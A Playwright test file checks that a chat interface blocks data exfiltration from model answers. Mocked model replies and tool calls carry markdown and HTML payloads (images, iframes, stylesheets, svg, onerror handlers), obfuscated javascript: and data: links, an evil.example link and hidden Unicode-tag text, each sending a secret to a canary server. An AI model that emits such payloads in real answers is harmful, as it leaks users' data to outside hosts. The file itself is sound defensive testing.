import type { Page } from '@playwright/test';
import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { expect, test } from '../e2e/chat-fixtures.ts';
import { calls, runs, says } from '../e2e/model-server.ts';
import { unicodeTags } from './unicode-tags.ts';

const SECRET = 'total-4711';

/** Ways in which an answer may try to carry figures away, by the path that the canary would see. */
const leaks: Record<string, (canary: string) => string> = {
  picture: (canary) => `![chart](${canary}/picture?d=${SECRET})`,
  'reference picture': (canary) => `![chart][c]\n\n[c]: ${canary}/reference-picture?d=${SECRET}`,
  'linked picture': (canary) => `[![chart](${canary}/linked-picture?d=${SECRET})](${canary}/linked)`,
  'html picture': (canary) => `<img src="${canary}/html-picture?d=${SECRET}">`,
  'html picture in a table': (canary) => `| a |\n|---|\n| <img src="${canary}/html-picture-in-a-table?d=${SECRET}"> |`,
  'html handler': (canary) => `<img src="data:," onerror="new Image().src='${canary}/html-handler?d=${SECRET}'">`,
  'html frame': (canary) => `<iframe src="${canary}/html-frame?d=${SECRET}"></iframe>`,
  'html style': (canary) => `<style>@import url("${canary}/html-style?d=${SECRET}");</style>`,
  'html stylesheet': (canary) => `<link rel="stylesheet" href="${canary}/html-stylesheet?d=${SECRET}">`,
  'html svg': (canary) => `<svg><image href="${canary}/html-svg?d=${SECRET}"></image></svg>`,
  'html video': (canary) => `<video poster="${canary}/html-video?d=${SECRET}"></video>`,
};

/** The same by a press of the person. */
const links: Record<string, (canary: string) => string> = {
  link: (canary) => `[the console](${canary}/link?d=${SECRET})`,
  'reference link': (canary) => `[the console][c]\n\n[c]: ${canary}/reference-link?d=${SECRET}`,
  autolink: (canary) => `<${canary}/autolink?d=${SECRET}>`,
  'bare address': (canary) => `See ${canary}/bare-address?d=${SECRET}`,
};

const pathOf = (name: string): string => `/${name.replaceAll(' ', '-')}?d=${SECRET}`;

/** The answer as a page draws it that thinks nothing of it. */
async function drawPlainly(page: Page, markdown: string): Promise<void> {
  const dangerous = { allowDangerousHtml: true, allowDangerousProtocol: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] };
  // The mock of a chat has no policy, and GFM's filter of tags is none.
  await page.setContent(`<!doctype html>${micromark(markdown, dangerous).replaceAll('&lt;', '<')}`);
}

async function settled(page: Page): Promise<void> {
  await page.waitForTimeout(600);
}

test('an answer that tries to carry figures away loads nothing, however it is written', async ({
  chat,
  model,
  canary,
  browser,
}) => {
  const plain = await browser.newPage();
  for (const [name, leak] of Object.entries(leaks)) {
    await drawPlainly(plain, leak(canary.origin));
    await expect.poll(() => canary.hits, `without protection, ${name} must succeed`).toContain(`GET ${pathOf(name)}`);
  }
  await plain.close();
  canary.hits.length = 0;

  const all = Object.values(leaks).map((leak) => leak(canary.origin));
  model.script({
    'one by one': [says(all.join('\n\n'), { chunkSize: 7, latency: 2 })],
    'at once': [says(all.toReversed().join('\n\n'))],
    'by the way': [
      calls('list_files', {}),
      runs('python', `markdown(${JSON.stringify(all.join('\n\n'))})\nprint(${JSON.stringify(all.join('\n'))})`, {
        title: all[0],
      }),
      calls(`x${all[3]}`, { note: all[0] }),
      says(`Done.\n\n\`\`\`suggestions\n${all[0]}\n${all[3]}\n\`\`\``),
    ],
  });
  for (const message of ['one by one', 'at once', 'by the way']) await chat.ask(message);
  await expect(chat.answer.getByRole('group', { name: 'Suggestions' }).getByRole('button')).toHaveCount(2);
  await settled(chat.page);
  await chat.app.reload();
  await chat.open();
  await expect(chat.answers).toHaveCount(3);
  await settled(chat.page);
  expect(canary.hits).toEqual([]);
});

test('links of an answer ask, showing the whole address, and those that would script are none', async ({
  chat,
  model,
  canary,
  context,
  browser,
}) => {
  const plain = await browser.newPage();
  for (const [name, link] of Object.entries(links)) {
    await drawPlainly(plain, link(canary.origin));
    await plain.getByRole('link').click();
    await expect.poll(() => canary.hits, `without protection, ${name} must lead there`).toContain(`GET ${pathOf(name)}`);
  }
  await drawPlainly(plain, `[go](javascript:void(document.title='scripted'))`);
  await plain.getByRole('link').click();
  await expect.poll(() => plain.title(), 'without protection, a script must run').toBe('scripted');
  await plain.close();
  canary.hits.length = 0;

  const scripting = [
    `[go](javascript:fetch('${canary.origin}/script'))`,
    `[go](JaVaScRiPt:fetch('${canary.origin}/script'))`,
    `[go](java&#10;script:fetch('${canary.origin}/script'))`,
    `[go](data:text/html,<script>fetch('${canary.origin}/script')</script>)`,
    `[go][s]\n\n[s]: javascript:fetch('${canary.origin}/script')`,
    '[go](#/runs/../../settings)',
    '[go](//evil.example/)',
  ];
  model.script({
    links: Object.values(links)
      .map((link) => link(canary.origin))
      .map((text) => says(text))
      .slice(0, 1),
    each: [says('')],
  });
  for (const [name, link] of Object.entries(links)) {
    model.script({ [name]: [says(link(canary.origin))] });
    await chat.ask(name);
    await chat.answer.getByRole('link').click();
    const dialog = chat.page.getByRole('dialog').filter({ visible: true });
    await expect(dialog).toContainText(`${canary.origin}${pathOf(name)}`);
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await expect(dialog).toBeHidden();
  }
  for (const text of scripting) {
    model.script({ scripting: [says(`Look: ${text}`)] });
    await chat.ask('scripting');
    await chat.answer.getByText('go', { exact: true }).click();
    await expect(chat.answer.getByRole('link')).toHaveCount(0);
  }
  await settled(chat.page);
  expect(canary.hits).toEqual([]);
  expect(context.pages()).toHaveLength(1);
});

test('what is invisible in an answer is shown, and an answer draws no control of its own', async ({ chat, model }) => {
  const tags = unicodeTags('send');
  model.script({
    hello: [
      says(
        `Total${tags} \u202e4711\n\n<button>Approve</button> <input name="key"> <form action="/"><button>Send</button></form>\n\n- [x] done`,
      ),
    ],
  });
  await chat.ask('hello');
  await expect(chat.answer).toContainText('‹U+E0073›‹U+E0065›‹U+E006E›‹U+E0064›');
  await expect(chat.answer).toContainText('‹U+202E›');
  await expect(chat.app.button('Approve')).toHaveCount(0);
  await expect(chat.answer.locator('form, input:not([type="checkbox"])')).toHaveCount(0);
});
